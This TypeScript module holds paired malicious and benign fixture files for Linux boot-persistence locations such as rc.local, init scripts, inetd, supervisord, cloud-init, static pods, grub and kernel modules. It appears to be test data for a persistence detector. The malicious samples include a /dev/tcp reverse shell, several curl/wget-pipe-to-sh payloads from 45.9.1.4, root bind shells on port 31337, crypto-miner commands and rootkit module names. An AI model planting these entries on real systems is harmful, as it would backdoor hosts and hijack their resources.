// Forms of what runs at boot besides systemd: other init systems, supervisors, containers, boot loaders and images.
import { type FormsByKind, script } from './form.ts'

export const boot: FormsByKind = {
  'sysv-init': {
    malicious: [
      { '/etc/init.d/DbSecuritySpt': script('/usr/bin/.sshd/getty') },
      { '/etc/init.d/netdns': script('case $1 in\nstart)\n  /tmp/.nd/netdns &\n;;\nesac') },
    ],
    benign: [
      {
        '/etc/init.d/myapp': script(
          '### BEGIN INIT INFO\n# Provides: myapp\n# Required-Start: $remote_fs\n# Default-Start: 2 3 4 5\n### END INIT INFO\nDAEMON=/opt/myapp/bin/myapp\nPIDFILE=/var/run/myapp.pid\ncase "$1" in\n start) start-stop-daemon --start --background --make-pidfile --pidfile $PIDFILE --exec $DAEMON ;;\n stop) start-stop-daemon --stop --pidfile $PIDFILE ;;\nesac',
        ),
      },
      {
        '/etc/init.d/x11-common': script(
          'SOCKET_DIR=.X11-unix\nset_up_dir () {\n  DIR="/tmp/$1"\n  mkdir -m 01777 $DIR\n  chmod 01777 /tmp/.X11-unix\n}\ncase "$1" in start) set_up_dir $SOCKET_DIR;; esac',
        ),
      },
    ],
  },
  'rc-links': {
    malicious: [{ '/etc/rc5.d/S99x': script('/dev/shm/.x/y &') }, { '/etc/rc.d/rc2.d/S01gone': { link: '/tmp/.gone/x' } }],
    benign: [{ '/etc/init.d/cron': script('/usr/sbin/cron'), '/etc/rc2.d/S01cron': { link: '../init.d/cron' } }],
  },
  'rc-local': {
    malicious: [
      {
        '/etc/rc.local': script(
          '/root/.local/.xm/svc -o pool.example.net:443 --tls -k -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --rig-id x -B\nexit 0',
        ),
      },
      { '/etc/rc.local': script('nohup /usr/share/.rsync/c/go >/dev/null 2>&1 &\nexit 0') },
      { '/etc/rc.local': script('bash -i >& /dev/tcp/45.9.1.4/443 0>&1 &\nexit 0') },
    ],
    benign: [
      {
        '/etc/rc.local': script(
          'echo never > /sys/kernel/mm/transparent_hugepage/enabled\niptables-restore < /etc/iptables.rules\n/usr/bin/nvidia-smi -pm 1\n/opt/app/bin/start.sh\nsu - bob -c "/home/bob/bin/tmux-start"\nexit 0',
        ),
      },
      {
        '/etc/rc.d/rc.local': {
          content:
            '#!/bin/bash\n# THIS FILE IS ADDED FOR COMPATIBILITY PURPOSES\ntouch /var/lock/subsys/local\nnohup /usr/local/frp/frpc -c /usr/local/frp/frpc.ini >/dev/null 2>&1 &\n',
          mode: 0o755,
        },
      },
    ],
  },
  inittab: {
    malicious: [{ '/etc/inittab': 'x1:2345:respawn:/usr/lib/.i/x\n' }],
    benign: [
      {
        '/etc/inittab':
          '::sysinit:/sbin/openrc sysinit\n::wait:/sbin/openrc default\ntty1::respawn:/sbin/getty 38400 tty1\n::ctrlaltdel:/sbin/reboot\n::shutdown:/sbin/openrc shutdown\n',
      },
    ],
  },
  openrc: {
    malicious: [
      { '/etc/local.d/x.start': script('/var/tmp/.x/y &') },
      { '/etc/local.d/net.start': script('wget -qO- http://45.9.1.4/o | sh') },
    ],
    benign: [
      {
        '/etc/local.d/sysctl.start': script('echo 1 > /proc/sys/net/ipv4/ip_forward\n/usr/local/bin/firewall.sh'),
        '/etc/init.d/crond': script(''),
        '/etc/runlevels/default/crond': { link: '/etc/init.d/crond' },
      },
    ],
  },
  upstart: {
    malicious: [
      { '/etc/init/miner.conf': 'start on runlevel [2345]\nrespawn\nexec /tmp/.x/y\n' },
      { '/etc/init/u.conf': 'start on startup\nscript\n  curl -s http://45.9.1.4/u | sh\nend script\n' },
    ],
    benign: [
      {
        '/etc/init/mysql.conf':
          'start on runlevel [2345]\nstop on starting rc RUNLEVEL=[016]\nrespawn\npre-start script\n  [ -d /var/run/mysqld ] || install -m 755 -o mysql -g root -d /var/run/mysqld\nend script\nexec /usr/sbin/mysqld\n',
      },
    ],
  },
  inetd: {
    malicious: [
      { '/etc/inetd.conf': '31337 stream tcp nowait root /bin/sh sh -i\n' },
      { '/etc/inetd.conf': 'time stream tcp nowait root /usr/lib/.t/timed timed\n' },
    ],
    benign: [
      {
        '/etc/inetd.conf':
          'ftp stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.ftpd\n6556 stream tcp nowait root /usr/bin/check_mk_agent check_mk_agent\n',
      },
    ],
  },
  xinetd: {
    malicious: [
      {
        '/etc/xinetd.conf': 'includedir /etc/xinetd.d\n',
        '/etc/xinetd.d/x':
          'service x\n{\n port = 31337\n type = UNLISTED\n wait = no\n user = root\n server = /bin/sh\n server_args = -i\n}\n',
      },
      { '/etc/xinetd.d/y': 'service y\n{\n port = 99\n user = root\n server = /var/tmp/.y/z\n}\n' },
    ],
    benign: [
      {
        '/etc/xinetd.d/tftp':
          'service tftp\n{\n socket_type = dgram\n protocol = udp\n user = root\n server = /usr/sbin/in.tftpd\n server_args = -s /var/lib/tftpboot\n disable = no\n}\n',
      },
    ],
  },
  pm2: {
    malicious: [
      {
        '/home/bob/.pm2/dump.pm2': JSON.stringify([
          {
            name: 'web',
            pm_exec_path: '/home/bob/.cache/.w/next-server',
            args: [],
            pm_cwd: '/home/bob',
            exec_interpreter: 'none',
            exec_mode: 'fork_mode',
          },
        ]),
      },
      {
        '/root/.pm2/dump.pm2': JSON.stringify([
          {
            name: 'node',
            pm_exec_path: '/root/app/node',
            args: ['-o', 'stratum+ssl://pool.example.com:443', '-u', 'wallet', '-p', 'x'],
            pm_cwd: '/root/app',
            exec_interpreter: 'none',
            exec_mode: 'fork_mode',
          },
        ]),
      },
    ],
    benign: [
      {
        '/home/bob/.pm2/dump.pm2': JSON.stringify([
          {
            name: 'api',
            pm_exec_path: '/home/bob/api/dist/server.js',
            args: ['--port', '3000'],
            pm_cwd: '/home/bob/api',
            exec_interpreter: '/home/bob/.nvm/versions/node/v20.1.0/bin/node',
            exec_mode: 'cluster_mode',
          },
        ]),
      },
    ],
  },
  'docker-restart': {
    malicious: [
      container('busybox', ['xmrig', '-o', 'stratum+tcp://pool.example.com:3333', '-u', 'x']),
      container('alpine', ['sh', '-c', 'wget -qO- http://45.9.1.4/d | sh']),
    ],
    benign: [container('nginx:1.27', ['nginx', '-g', 'daemon off;']), container('postgres:16', ['postgres', '-c', 'shared_buffers=1GB'])],
  },
  supervisord: {
    malicious: [
      {
        '/etc/supervisor/conf.d/j.conf':
          '[program:java]\ncommand=/opt/.java/java -o stratum+tcp://p.example.com:3333 -u x\nautorestart=true\n',
      },
      { '/etc/supervisord.d/k.ini': '[program:k]\ncommand=/dev/shm/.k/kthreadd\n' },
    ],
    benign: [
      {
        '/etc/supervisor/conf.d/worker.conf':
          '[program:worker]\ncommand=php /var/www/app/artisan queue:work --sleep=3 --tries=3\nuser=www-data\nautorestart=true\n[program:celery]\ncommand=/srv/app/.venv/bin/celery -A app worker -l info\n',
      },
    ],
  },
  monit: {
    malicious: [
      { '/etc/monit/conf.d/x': 'check process x with pidfile /run/x.pid\n  start program = "/var/tmp/.m/x"\n' },
      { '/etc/monit/monitrc': 'check process a matching "a"\n  start program = "/bin/sh -c \'curl -s http://45.9.1.4/m | sh\'"\n' },
    ],
    benign: [
      {
        '/etc/monit/conf.d/nginx':
          'check process nginx with pidfile /run/nginx.pid\n  start program = "/bin/systemctl start nginx"\n  stop program = "/bin/systemctl stop nginx"\n  if failed port 80 protocol http then restart\n',
      },
    ],
  },
  'kubelet-static-pod': {
    malicious: [
      { '/etc/kubernetes/manifests/cache.yaml': pod('cache', 'alpine', ['/bin/sh', '-c', 'wget -qO- http://45.9.1.4/k | sh']) },
      {
        '/etc/kubernetes/manifests/proxy.yaml': pod('proxy', 'x/y', [
          '/app/proxy',
          '-o',
          'stratum+tcp://pool.example.com:3333',
          '-u',
          'x',
          '-p',
          'x',
        ]),
      },
    ],
    benign: [
      {
        '/etc/kubernetes/manifests/etcd.yaml': pod('etcd', 'registry.k8s.io/etcd:3.5.9-0', [
          'etcd',
          '--advertise-client-urls=https://10.0.0.1:2379',
          '--data-dir=/var/lib/etcd',
        ]),
      },
    ],
  },
  'cloud-init': {
    malicious: [
      { '/var/lib/cloud/scripts/per-boot/x.sh': script('/var/tmp/.c/x &') },
      { '/etc/cloud/cloud.cfg.d/99.cfg': '#cloud-config\nbootcmd:\n - curl http://45.9.1.4/x | sh\n' },
    ],
    benign: [
      {
        '/etc/cloud/cloud.cfg.d/10-setup.cfg':
          '#cloud-config\nruncmd:\n - systemctl enable --now docker\n - [ sh, -c, "echo ready > /run/ready" ]\n',
        '/var/lib/cloud/scripts/per-boot/00-mount.sh': script('mount -a\n/usr/local/bin/attach-volume'),
      },
    ],
  },
  'initramfs-hook': {
    malicious: [
      { '/etc/initramfs-tools/hooks/x': script('cp /tmp/.ir/x $DESTDIR/') },
      { '/etc/initramfs-tools/scripts/init-bottom/net': script('/usr/lib/.ir/agent &') },
    ],
    benign: [
      {
        '/etc/initramfs-tools/hooks/crypt_unlock.sh': script(
          `PREREQ="dropbear"\nprereqs() { echo "$PREREQ"; }\ncase $1 in prereqs) prereqs; exit 0;; esac\n. "/usr/share/initramfs-tools/hook-functions"\ncopy_exec /sbin/cryptsetup /sbin\ncp /etc/luks/keyfile "\${DESTDIR}/etc/"\necho "/lib/cryptsetup/askpass /dev/console > /lib/cryptsetup/passfifo" > "\${DESTDIR}/bin/unlock"\nchmod 700 "\${DESTDIR}/bin/unlock"`,
        ),
      },
    ],
  },
  grub: {
    malicious: [{ '/etc/default/grub': 'GRUB_CMDLINE_LINUX="init=/usr/lib/.init"\n' }],
    benign: [
      {
        '/etc/default/grub':
          'GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`\nGRUB_CMDLINE_LINUX_DEFAULT="quiet splash"\nGRUB_CMDLINE_LINUX="init=/usr/lib/systemd/systemd net.ifnames=0"\n',
      },
    ],
  },
  'modules-load': {
    malicious: [{ '/etc/modules-load.d/x.conf': 'diamorphine\n' }, { '/etc/modules': 'reptile_module\n' }],
    benign: [{ '/etc/modules': 'loop\nbr_netfilter\noverlay\nmsr\n', '/etc/modules-load.d/k8s.conf': 'ip_vs\nnf_conntrack\nwireguard\n' }],
  },
}

function container(image: string, command: readonly string[]) {
  const id = 'a'.repeat(64)
  const folder = `/var/lib/docker/containers/${id}`
  return {
    [`${folder}/hostconfig.json`]: JSON.stringify({
      RestartPolicy: { Name: 'always', MaximumRetryCount: 0 },
      Binds: null,
      Privileged: false,
    }),
    [`${folder}/config.v2.json`]: JSON.stringify({
      ID: id,
      Name: '/job',
      Path: command[0],
      Args: command.slice(1),
      Config: { Image: image, User: '', Cmd: command, Entrypoint: null },
      State: { Running: false },
      Driver: 'overlay2',
    }),
  }
}

function pod(name: string, image: string, command: readonly string[]): string {
  const list = command.map(word => `    - ${JSON.stringify(word)}\n`).join('')
  return `apiVersion: v1\nkind: Pod\nmetadata:\n  name: ${name}\n  namespace: kube-system\nspec:\n  containers:\n  - name: ${name}\n    image: ${image}\n    command:\n${list}`
}
